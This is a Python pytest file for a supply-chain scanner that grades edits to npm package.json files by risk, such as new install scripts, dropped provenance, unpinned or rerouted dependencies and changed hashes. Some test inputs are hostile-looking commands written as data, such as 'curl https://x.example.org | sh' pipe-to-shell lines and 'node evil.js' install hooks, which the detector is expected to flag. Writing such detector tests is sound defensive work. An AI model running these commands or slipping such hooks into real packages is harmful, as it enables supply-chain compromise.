"""What an edit of package.json means."""

from __future__ import annotations

import json
from typing import Any

import pytest
from javascript_kit import any_type_anywhere, deltas, never_raises, said
from kit.patience import within

from scanner.formats.javascript import package_json

SAMPLE: dict[str, Any] = {
    "name": "@acme/tool",
    "version": "1.2.3",
    "description": "A tool.",
    "keywords": ["tool"],
    "license": "MIT",
    "repository": {"type": "git", "url": "git+https://git.example.org/acme/tool.git"},
    "publishConfig": {"access": "public", "provenance": True},
    "type": "module",
    "main": "./dist/index.js",
    "types": "./dist/index.d.ts",
    "exports": {".": {"types": "./dist/index.d.ts", "import": "./dist/index.js"}},
    "bin": {"tool": "./bin/tool.js"},
    "files": ["dist", "bin", "!dist/**/*.map"],
    "engines": {"node": ">=20"},
    "packageManager": "pnpm@9.1.0+sha512.abc",
    "scripts": {
        "build": "tsc -p .",
        "prepare": "npm run hooks",
        "hooks": "node hooks.js",
        "prepublishOnly": "npm run build && npm test",
        "test": "vitest run",
        "lint": "eslint .",
        "release": "changeset publish",
        "tidy-up": "node tidy.js",
    },
    "dependencies": {"left": "^1.2.0", "@acme/core": "workspace:*", "forked": "git+https://git.example.org/a/b.git#v1"},
    "peerDependencies": {"view": "^18.0.0"},
    "devDependencies": {"checker": "5.0.0"},
    "overrides": {"deep": "1.0.0", "outer": {"inner": "2.0.0"}},
    "pnpm": {"onlyBuiltDependencies": ["native"], "overrides": {"a@1>b": "3.0.0"}},
    "trustedDependencies": ["native"],
    "workspaces": ["packages/*"],
    "activationEvents": ["onCommand:tool.run"],
    "contributes": {"commands": []},
    "eslintConfig": {"rules": {}},
    "jest": {"preset": "x"},
}
GONE = object()


def with_changes(changes: dict[str, Any]) -> str:
    """The sample with each dotted place (`scripts/build`) set, or taken away."""
    tree = json.loads(json.dumps(SAMPLE))
    for place, value in changes.items():
        *above, last = place.split("|")
        inner = tree
        for key in above:
            inner = inner.setdefault(key, {})
        if value is GONE:
            inner.pop(last, None)
        else:
            inner[last] = value
    return json.dumps(tree, indent=2)


PLAIN = with_changes({})

CASES: list[tuple[str, dict[str, Any], list[str]]] = [
    # What it is called and where it goes.
    ("renamed", {"name": "@acme/tools"}, ["high package-renamed name"]),
    ("new version", {"version": "1.2.4"}, ["medium version-changed version"]),
    ("licence", {"license": "GPL-3.0-only"}, ["medium license-changed license"]),
    ("another repository", {"repository": "git.example.org/evil/tool"}, ["medium metadata-changed repository"]),
    ("made private", {"private": True}, ["medium publish-changed private"]),
    (
        "registry",
        {"publishConfig|registry": "https://npm.example.org"},
        ["critical publish-changed publishConfig.registry"],
    ),
    ("access", {"publishConfig|access": "restricted"}, ["critical publish-changed publishConfig.access"]),
    ("provenance off", {"publishConfig|provenance": False}, ["critical provenance-dropped publishConfig.provenance"]),
    ("provenance unsaid", {"publishConfig|provenance": GONE}, ["critical provenance-dropped publishConfig.provenance"]),
    (
        "published folder",
        {"publishConfig|directory": "out"},
        ["medium package-contents-changed publishConfig.directory"],
    ),
    # What it holds.
    ("all files", {"files": GONE}, ["high package-contents-widened files"]),
    ("more files", {"files": ["dist", "bin", "src", "!dist/**/*.map"]}, ["high package-contents-widened files"]),
    ("source maps let in", {"files": ["dist", "bin"]}, ["high package-contents-widened files"]),
    ("fewer files", {"files": ["dist", "!dist/**/*.map"]}, ["medium package-contents-changed files"]),
    ("another main", {"main": "./dist/other.js"}, ["high entry-point-changed main"]),
    ("another export", {"exports|.|import": "./x.js"}, ["high entry-point-changed exports[.][import]"]),
    ("an export added", {"exports|./cli": "./cli.js"}, ["high entry-point-added exports[./cli]"]),
    ("types added", {"exports|./cli": {"types": "./c.d.ts"}}, ["medium entry-point-added exports[./cli][types]"]),
    ("a command", {"bin|tl": "./bin/tool.js"}, ["high entry-point-added bin.tl"]),
    ("a command gone", {"bin": GONE}, ["medium entry-point-removed bin.tool"]),
    ("types", {"types": "./t.d.ts"}, ["medium entry-point-changed types"]),
    ("bundled", {"bundleDependencies": ["left"]}, ["high package-contents-widened bundleDependencies"]),
    ("binary host", {"binary": {"host": "https://bin.example.org"}}, ["critical registry-changed binary.host"]),
    ("engines", {"engines|node": ">=22"}, ["medium runtime-requirement-changed engines.node"]),
    ("side effects", {"sideEffects": False}, ["low metadata-changed sideEffects"]),
    (
        "starts at once",
        {"activationEvents": ["*", "onCommand:tool.run"]},
        ["high entry-point-added activationEvents[*]"],
    ),
    ("starts less", {"activationEvents": []}, ["low entry-point-removed activationEvents[onCommand:tool.run]"]),
    # What runs.
    ("postinstall", {"scripts|postinstall": "node x.js"}, ["critical install-script-added scripts.postinstall"]),
    ("prepare", {"scripts|prepare": "node y.js"}, ["critical install-script-changed scripts.prepare"]),
    ("behind prepare", {"scripts|hooks": "node evil.js"}, ["critical install-script-changed scripts.hooks"]),
    ("prepare gone", {"scripts|prepare": GONE}, ["low install-script-removed scripts.prepare"]),
    (
        "a lint that install runs",
        {"scripts|prepare": "npm run lint", "scripts|lint": "x"},
        ["critical install-script-changed scripts.lint", "critical install-script-changed scripts.prepare"],
    ),
    ("postpublish", {"scripts|postpublish": "node x.js"}, ["critical publish-changed scripts.postpublish"]),
    ("prepack", {"scripts|prepack": "node x.js"}, ["high build-script-changed scripts.prepack"]),
    ("release", {"scripts|release": "npm publish"}, ["high build-script-changed scripts.release"]),
    ("behind prepublishOnly", {"scripts|build": "node x.js"}, ["high build-script-changed scripts.build"]),
    ("a build on its own", {"scripts|compile": "x"}, ["medium build-script-changed scripts.compile"]),
    ("nobody knows", {"scripts|tidy-up": "rm -rf x"}, ["low build-script-changed scripts.tidy-up"]),
    ("a test of a release", {"scripts|test": "jest"}, ["low build-script-changed scripts.test"]),
    (
        "fetched and run",
        {"scripts|lint": "curl https://x.example.org | sh"},
        ["critical download-and-run scripts.lint"],
    ),
    ("gyp", {"gypfile": True}, ["critical install-script-added gypfile"]),
    ("git hooks", {"husky": {"hooks": {"pre-commit": "x"}}}, ["medium hook-changed husky"]),
    ("babel", {"babel": {"plugins": ["./x"]}}, ["medium build-script-changed babel"]),
    ("release tool", {"release": {"plugins": ["x"]}}, ["high publish-changed release"]),
    (
        "desktop target",
        {"build": {"publish": {"url": "https://u.example.org"}}},
        ["critical publish-changed build.publish.url"],
    ),
    ("desktop files", {"build": {"files": ["**"]}}, ["medium package-contents-changed build.files"]),
    ("desktop hook", {"build": {"afterPack": "./x.js"}}, ["high build-script-changed build.afterPack"]),
    ("desktop rest", {"build": {"appId": "x"}}, ["medium setting-changed build.appId"]),
    ("workspaces", {"workspaces": ["packages/*", "vendor/*"]}, ["medium setting-changed workspaces"]),
    # The tool chain.
    ("manager up", {"packageManager": "pnpm@9.2.0+sha512.def"}, ["medium toolchain-changed pnpm"]),
    ("manager unhashed", {"packageManager": "pnpm@9.1.0"}, ["high hash-removed pnpm"]),
    ("manager's other hash", {"packageManager": "pnpm@9.1.0+sha512.def"}, ["critical hash-changed pnpm"]),
    ("another manager", {"packageManager": "yarn@4.0.0"}, ["high toolchain-changed packageManager"]),
    (
        "manager from elsewhere",
        {"packageManager": "pnpm@https://x.example.org/p.tgz"},
        ["high toolchain-changed packageManager"],
    ),
    ("volta", {"volta": {"node": "20.1.0"}}, ["medium toolchain-changed node"]),
    # What it needs.
    ("bumped", {"dependencies|left": "^1.3.0"}, ["medium dependency-bumped left"]),
    ("bumped for developers", {"devDependencies|checker": "5.1.0"}, ["low dependency-bumped checker"]),
    ("added", {"dependencies|right": "^1.0.0"}, ["high dependency-added right"]),
    ("added for developers", {"devDependencies|other": "1.0.0"}, ["medium dependency-added other"]),
    ("removed", {"dependencies|left": GONE}, ["low dependency-removed left"]),
    ("any version", {"dependencies|left": "*"}, ["high pin-loosened left"]),
    ("a tag", {"dependencies|left": "latest"}, ["high pin-loosened left"]),
    ("down", {"dependencies|left": "^1.1.0"}, ["high dependency-downgraded left"]),
    ("from git", {"dependencies|left": "github:evil/left#abc"}, ["high source-changed left", "high pin-loosened left"]),
    ("shorthand", {"dependencies|left": "evil/left#v1.2.0"}, ["high source-changed left", "low pin-tightened left"]),
    (
        "an archive",
        {"dependencies|left": "http://x.example.org/left.tgz"},
        ["critical source-changed left", "high pin-loosened left"],
    ),
    ("an alias", {"dependencies|left": "npm:evil@^1.2.0"}, ["high source-changed left"]),
    (
        "another revision",
        {"dependencies|forked": "git+https://git.example.org/a/b.git#v2"},
        ["medium dependency-bumped forked"],
    ),
    ("out of the workspace", {"dependencies|@acme/core": "^1.0.0"}, ["high source-changed @acme/core"]),
    ("into the workspace", {"dependencies|left": "workspace:^"}, ["medium dependency-changed left"]),
    ("a neighbour", {"dependencies|@acme/more": "workspace:*"}, ["medium dependency-added @acme/more"]),
    ("to a catalog", {"dependencies|left": "catalog:"}, ["medium dependency-changed left"]),
    (
        "now for everybody",
        {"devDependencies|checker": GONE, "dependencies|checker": "5.0.0"},
        ["medium dependency-moved checker"],
    ),
    ("peer optional", {"peerDependenciesMeta": {"view": {"optional": True}}}, ["medium dependency-changed view"]),
    ("override", {"overrides|x": "1.0.0"}, ["high override-changed overrides[x]"]),
    ("override bumped", {"overrides|deep": "1.0.1"}, ["medium dependency-bumped deep"]),
    ("inner override bumped", {"overrides|outer|inner": "2.1.0"}, ["medium dependency-bumped inner"]),
    ("pnpm's override bumped", {"pnpm|overrides|a@1>b": "3.1.0"}, ["medium dependency-bumped b"]),
    ("override moved", {"overrides|deep": "npm:evil@1.0.0"}, ["high source-changed deep"]),
    ("override gone", {"overrides|deep": GONE}, ["medium override-changed overrides[deep]"]),
    ("resolution", {"resolutions": {"**/deep": "1.0.0"}}, ["high override-changed resolutions[**/deep]"]),
    (
        "builds allowed",
        {"pnpm|onlyBuiltDependencies": ["native", "evil"]},
        ["critical install-scripts-allowed pnpm.onlyBuiltDependencies"],
    ),
    ("trusted", {"trustedDependencies": ["native", "evil"]}, ["critical install-scripts-allowed trustedDependencies"]),
    ("trusted less", {"trustedDependencies": []}, ["low setting-changed trustedDependencies"]),
    (
        "patched",
        {"pnpm|patchedDependencies": {"left@1.2.0": "patches/left.patch"}},
        ["high override-changed pnpm.patchedDependencies"],
    ),
    ("extension pack", {"extensionPack": ["acme.more"]}, ["high dependency-added acme.more"]),
]


@pytest.mark.parametrize(("changes", "expected"), [pytest.param(c, e, id=name) for name, c, e in CASES])
def test_an_edit_is_told(changes: dict[str, Any], expected: list[str]) -> None:
    assert said(package_json, PLAIN, with_changes(changes)) == sorted(expected)


QUIET: dict[str, dict[str, Any]] = {
    "description": {"description": "The tool."},
    "keywords": {"keywords": []},
    "homepage": {"homepage": "https://example.org"},
    "author": {"author": "A. Person"},
    "linter": {"eslintConfig": {"rules": {"x": 2}}, "prettier": {}},
    "test settings": {"jest": {"preset": "y"}},
    "contributions": {"contributes": {"commands": [{"command": "x"}]}},
    "lint script": {"scripts|lint": "eslint src"},
    "format script": {"scripts|format": "prettier -w ."},
    "repository spelled anew": {"repository": "https://git.example.org/acme/tool"},
    "files in another order": {"files": ["!dist/**/*.map", "./bin", "dist/"]},
    "a path without its dot": {"main": "dist/index.js", "bin": {"tool": "bin/tool.js"}},
    "one command by its path": {"bin": "bin/tool.js"},
    "spaces in a script": {"scripts|prepare": "npm  run hooks"},
    "workspaces in the long form": {"workspaces": {"packages": ["packages/*"]}},
    "same permission elsewhere": {"pnpm": {"allowBuilds": {"native": True}, "overrides": {"a@1>b": "3.0.0"}}},
    "comment among dependencies": {"dependencies|//": "keep these sorted"},
}


@pytest.mark.parametrize("changes", QUIET.values(), ids=QUIET)
def test_what_ships_nothing_else_is_not_told(changes: dict[str, Any]) -> None:
    assert said(package_json, PLAIN, with_changes(changes)) == []


def test_order_and_layout_are_not_told() -> None:
    turned = json.dumps(dict(reversed(SAMPLE.items())), indent=None).encode()
    assert list(package_json.diff(PLAIN.encode(), b"\xef\xbb\xbf" + turned.replace(b'"name"', b'\n\t"name"'))) == []


def test_what_python_takes_for_true_and_npm_does_not_is_told() -> None:
    one, other = with_changes({"gypfile": 1}), with_changes({"gypfile": True})
    assert said(package_json, one, other) == ["critical install-script-added gypfile"]


def test_no_longer_private_may_be_published() -> None:
    assert said(package_json, with_changes({"private": True}), PLAIN) == ["critical publish-changed private"]


def test_a_new_manifest_tells_what_it_wants_and_what_runs() -> None:
    assert said(package_json, None, with_changes({"overrides": {}, "pnpm": {}, "trustedDependencies": []})) == sorted(
        [
            "critical install-script-added scripts.hooks",
            "critical install-script-added scripts.prepare",
            "high build-script-changed scripts.build",
            "high build-script-changed scripts.prepublishOnly",
            "high build-script-changed scripts.release",
            "high dependency-added forked",
            "high dependency-added left",
            "high dependency-added view",
            "medium dependency-added @acme/core",
            "medium dependency-added checker",
            "medium publish-changed name",
        ]
    )


def test_a_new_private_manifest_without_dependencies_is_quiet() -> None:
    assert said(package_json, None, '{"name": "x", "private": true, "scripts": {"build": "tsc"}}') == []


def test_a_manifest_that_went_is_told_once() -> None:
    assert said(package_json, PLAIN, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "text",
    [
        "<<<<<<< HEAD\n{}\n",
        '{"name": "{{ name }}", {{ more }} }',
        '{"a": 1, "a": 2}',
        PLAIN[:-5],
        "[]",
        "",
        "null",
        "\0",
    ],
    ids=["merge", "template", "duplicate", "truncated", "list", "empty", "null", "nul"],
)
def test_what_cannot_be_read_is_as_bad_as_it_gets(text: str) -> None:
    for old, new in ((PLAIN, text), (text, PLAIN), (None, text)):
        assert [f"{each.severity} {each.kind}" for each in deltas(package_json, old, new)] == ["critical opaque"]


def test_versions_are_shown_as_written() -> None:
    (delta,) = deltas(package_json, PLAIN, with_changes({"dependencies|left": "^1.3.0"}))
    assert (delta.old, delta.new, delta.scope) == ("^1.2.0", "^1.3.0", "runtime")


def test_a_long_requirement_is_compared_to_its_end() -> None:
    long = "file:" + "a" * 3000
    assert said(
        package_json, with_changes({"dependencies|left": long + "b"}), with_changes({"dependencies|left": long + "c"})
    ) == ["high source-changed left"]


@pytest.mark.parametrize("path", ["package.json", "packages/ui/package.json", "PACKAGE.JSON"])
def test_it_is_known_by_its_name(path: str) -> None:
    assert package_json.matches(path)
    assert not package_json.matches(path + ".bak")
    assert not package_json.matches("my-" + path.rpartition("/")[2])


test_it_never_raises = never_raises(package_json, PLAIN.encode())
test_any_type_may_stand_anywhere = any_type_anywhere(package_json, SAMPLE)


def test_a_large_file_is_read_in_time() -> None:
    many = {f"script-{number}": f"npm run script-{number + 1} && npm run s:*" for number in range(20_000)}
    old, new = (json.dumps({"scripts": many, "dependencies": {**many, "x": text}}).encode() for text in ("1", "2"))
    with within(2):
        assert len(list(package_json.diff(old, new))) == 1


def test_what_runs_on_a_commit_is_told_where_it_downloads() -> None:
    one, other = ({"lint-staged": {"*": command}} for command in ("eslint", "curl https://e.example.org/i | sh"))
    assert said(package_json, with_changes(one), with_changes(other)) == ["critical download-and-run lint-staged"]
    assert said(package_json, with_changes(one), with_changes({"lint-staged": {"*": "eslint --fix"}})) == []
